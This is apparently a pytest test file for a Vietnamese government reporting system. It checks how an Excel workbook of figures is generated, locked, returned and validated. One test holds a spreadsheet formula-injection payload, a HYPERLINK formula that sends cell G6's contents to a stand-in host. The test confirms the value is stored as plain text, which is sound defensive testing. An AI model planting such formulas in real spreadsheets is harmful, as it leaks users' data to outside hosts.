"""The workbook of figures goes down pre-filled and comes back, however ugly."""

import io
from collections.abc import Callable
from datetime import date
from decimal import Decimal
from typing import Any

import openpyxl
import pytest
import xlsxwriter

from dongvon.domain.workplan.operations.fill import FiguresChangedMeanwhile, fill
from dongvon.domain.workplan.papers.workbook import figure_workbook
from dongvon.domain.workplan.queries.figures import grid_of, read_returned
from dongvon.domain.workplan.queries.report_page import report_page
from dongvon.domain.workplan.rules.workbook import (
    LockedWorkbook,
    NotAWorkbook,
    NotOurTemplate,
    OtherReport,
    WorkbookTooLarge,
)
from dongvon.domain.workplan.vocabulary import Filled
from tests.reporting import TRANG_BOM, Reporting

Change = Callable[[Any], None]


class Desk:
    """One report, its workbook, and what a person at Excel does to it."""

    def __init__(self, world: Reporting, *, name: str = "hoa", reporter: str = "ubnd-26041") -> None:
        self.world = world
        self.report = world.report(name, reporter=reporter)
        self.page = report_page(self.report, at=world.at, on=world.at.date())
        assert self.page is not None
        self.rows = grid_of(self.page)

    def workbook(self, change: Change = lambda sheet: None) -> bytes:
        book = openpyxl.load_workbook(io.BytesIO(figure_workbook(self.page, rows=self.rows)))
        change(book["Số liệu"])
        out = io.BytesIO()
        book.save(out)
        return out.getvalue()

    def returned(self, content: bytes) -> Any:
        return read_returned(self.page, rows=self.rows, content=content)


@pytest.fixture
def desk(world: Reporting) -> Desk:
    return Desk(world)


def values(returned: Any) -> list[Decimal | None]:
    return [figure.value for figure in returned.reading.figures]


def test_words_that_look_like_a_formula_stay_words(world: Reporting) -> None:
    """What one person typed as a reason must not run in Excel at the desk of the next."""
    report, reason = world.report(), '=HYPERLINK("http://xau.example?"&G6,"Xem")'
    missing = Filled(slot=world.slots["von"], no_data_reason=reason)
    fill(**world.envelope("hoa"), report=report, expects=0, figures=(missing,))
    cell = openpyxl.load_workbook(io.BytesIO(Desk(world).workbook()))["Số liệu"]["H7"]
    assert (cell.value, cell.data_type) == (reason, "s")


def test_it_goes_down_filled_and_locked(world: Reporting) -> None:
    report = world.report()
    slot = world.slots["von"]
    capital = Filled(slot=slot, value=Decimal(1_500_000_000))
    fill(**world.envelope("hoa"), report=report, expects=0, figures=(capital,))
    book = openpyxl.load_workbook(io.BytesIO(Desk(world).workbook()))
    sheet = book["Số liệu"]
    assert sheet["G7"].value == 1500
    assert sheet["D7"].value == "Vốn ngân sách ủy thác"
    assert sheet.protection.sheet
    assert (sheet["G7"].protection.locked, sheet["D7"].protection.locked) == (False, True)
    assert sheet.column_dimensions["A"].hidden
    assert book["_khoa"].sheet_state == "veryHidden"
    assert book.defined_names["so_lieu_von"].attr_text == "'Số liệu'!$G$7"


def test_what_is_filled_in_comes_back(world: Reporting, desk: Desk) -> None:
    def change(sheet: Any) -> None:
        sheet["G6"], sheet["G7"], sheet["H8"] = 12, "1.234,5", "Chưa chốt số liệu"

    returned = desk.returned(desk.workbook(change))
    assert not returned.reading.faults
    assert values(returned) == [Decimal(12), Decimal(1_234_500_000), None]
    edition = fill(
        **world.envelope("hoa"), report=desk.report, expects=returned.edition, figures=returned.reading.figures
    )
    assert edition == 1


def test_every_fault_has_its_cell_and_nothing_is_half_written(desk: Desk) -> None:
    def change(sheet: Any) -> None:
        sheet["G6"], sheet["G7"], sheet["G8"] = "mười hai", date(2026, 5, 1), "không có số liệu"

    faults = desk.returned(desk.workbook(change)).reading.faults
    assert [(fault.where, fault.refusal.code) for fault in faults] == [
        ("Ô G6", "NotReadable"),
        ("Ô G7", "BecameADate"),
        ("Ô G8", "ReasonMissing"),
    ]


def test_rows_and_columns_that_moved_are_found_by_their_keys(desk: Desk) -> None:
    def change(sheet: Any) -> None:
        sheet["G6"], sheet["G7"], sheet["G8"] = 1, 2, 3
        sheet.unmerge_cells("B1:I1")
        sheet.insert_rows(6)
        sheet.insert_cols(3)

    assert values(desk.returned(desk.workbook(change))) == [Decimal(1), Decimal(2_000_000), Decimal(3)]


def test_a_row_copied_without_its_key_is_named(desk: Desk) -> None:
    def change(sheet: Any) -> None:
        sheet["D9"], sheet["G9"] = "Chỉ tiêu tự thêm", 99

    (fault,) = desk.returned(desk.workbook(change)).reading.faults
    assert (fault.where, fault.refusal.code) == ("Ô G9", "RowWithoutKey")


def test_a_row_copied_with_its_key_is_named(desk: Desk) -> None:
    def change(sheet: Any) -> None:
        sheet["A9"], sheet["G9"] = sheet["A6"].value, 99

    assert [fault.refusal.code for fault in desk.returned(desk.workbook(change)).reading.faults] == ["SlotTwice"]


def test_an_error_of_a_formula_is_no_number(desk: Desk) -> None:
    def change(sheet: Any) -> None:
        sheet["G6"] = "#DIV/0!"

    (fault,) = desk.returned(desk.workbook(change)).reading.faults
    assert (fault.where, fault.refusal.code) == ("Ô G6", "FormulaError")


def test_the_workbook_of_another_report_is_refused(world: Reporting, desk: Desk) -> None:
    other = Desk(world, name="mai", reporter=TRANG_BOM).workbook()
    with pytest.raises(OtherReport) as refused:
        desk.returned(other)
    assert "Báo cáo năm 2026 - UBND xã Trảng Bom" in str(refused.value)


def foreign_workbook() -> bytes:
    file = io.BytesIO()
    book = xlsxwriter.Workbook(file)
    book.add_worksheet("Số liệu").write_row(0, 0, ["Số liệu", "Lý do không có số liệu"])
    book.close()
    return file.getvalue()


@pytest.mark.parametrize(
    ("content", "refusal"),
    [
        (b"", NotAWorkbook),
        (b"Ho ten,So lieu\n", NotAWorkbook),
        (b"PK\x03\x04 cut off", NotAWorkbook),
        (b"\xd0\xcf\x11\xe0" + "EncryptedPackage".encode("utf-16-le"), LockedWorkbook),
        (b"PK\x03\x04" + b"0" * (6 * 1024**2), WorkbookTooLarge),
        (foreign_workbook(), NotOurTemplate),
    ],
)
def test_what_is_no_template_is_refused(desk: Desk, content: bytes, refusal: type[Exception]) -> None:
    with pytest.raises(refusal):
        desk.returned(content)


def test_a_workbook_from_before_somebody_else_wrote_is_refused(world: Reporting, desk: Desk) -> None:
    def change(sheet: Any) -> None:
        sheet["G6"] = 7

    returned = desk.returned(desk.workbook(change))
    online = (Filled(slot=world.slots["hoi-nghi"], value=Decimal(9)),)
    fill(**world.envelope("tung"), report=desk.report, expects=0, figures=online)
    with pytest.raises(FiguresChangedMeanwhile):
        fill(**world.envelope("hoa"), report=desk.report, expects=returned.edition, figures=returned.reading.figures)


def test_last_year_stands_beside(world: Reporting) -> None:
    """The year before is read from what was handed in then."""
    world.handed_in()
    from dongvon.domain.workplan.models import Obligation, Round
    from dongvon.domain.workplan.operations.open_report import open_report

    old = Round.objects.get(pk=world.round)
    later = Round.objects.create(
        plan_id=world.plan, kind=old.kind, year=2027, title="Báo cáo năm 2027", basis="Mục III",
        opens_at=old.opens_at, due_at=old.due_at, grace_until=old.grace_until, locks_at=old.locks_at,
    )  # fmt: skip
    for row in Obligation.objects.filter(round=old, reporter=world.city.units["ubnd-26041"]):
        row.pk, row.round_id, row.met_at, row._state.adding = None, later.pk, None, True
        row.save()
    report = open_report(**world.envelope("hoa"), round=later.pk, reporter=world.city.units["ubnd-26041"])
    page = report_page(report, at=world.at, on=date(2026, 11, 24))
    assert page is not None
    assert [row.before for row in grid_of(page)] == [4, 5, 6]
    assert page.before.entries["1a"].narrative == "Đã thực hiện nhiệm vụ 1a."
